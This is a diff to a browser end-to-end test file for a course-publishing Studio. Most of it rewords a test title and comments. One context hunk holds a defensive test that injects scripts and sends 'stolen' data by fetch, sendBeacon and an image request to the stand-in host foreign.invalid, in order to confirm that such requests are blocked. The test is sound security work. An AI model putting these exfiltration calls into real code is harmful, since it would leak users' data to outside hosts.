@@ -23,8 +23,8 @@ import { expect, test } from '../support/browser/test.ts';
 
 restoreContentAfterFailures();
 
-/** `tests/api/publishing.test.ts` proves when a publication is built. */
-test('a third subject created in the Studio has a page, can be bought, and is deleted only while no one owns it', async ({
+/** `tests/api/publishing.test.ts` covers when a publication is built. */
+test('a third subject created in the Studio has a page, can be bought, and cannot be deleted while a student owns it', async ({
   browser,
   page,
   request,
@@ -46,7 +46,7 @@ test('a third subject created in the Studio has a page, can be bought, and is de
   await studio.getByRole('button', { name: 'Generate' }).click();
   await expect(field(studio, 'slug')).toHaveValue('development-economics');
   await publish(studio);
-  // A topic's entry names its subject, too.
+  // A topic's entry names its subject too.
   const entry = studio.getByRole('link', { name: /^Development Economics/ });
   await expect(entry).toContainText(studioTexts.noFiles);
 
@@ -130,7 +130,7 @@ test('the Studio runs no foreign script, and sends nothing to a foreign address'
     document.head.append(inline, foreign);
     await fetch('https://foreign.invalid/', { method: 'POST', body: 'stolen' }).catch(() => {});
     navigator.sendBeacon('https://foreign.invalid/', 'stolen');
-    // The events of all four come before this one's error.
+    // The events of all four requests come before this image's error.
     const image = new Image();
     image.src = 'https://foreign.invalid/stolen.png';
     await new Promise((resolve) => image.addEventListener('error', resolve));
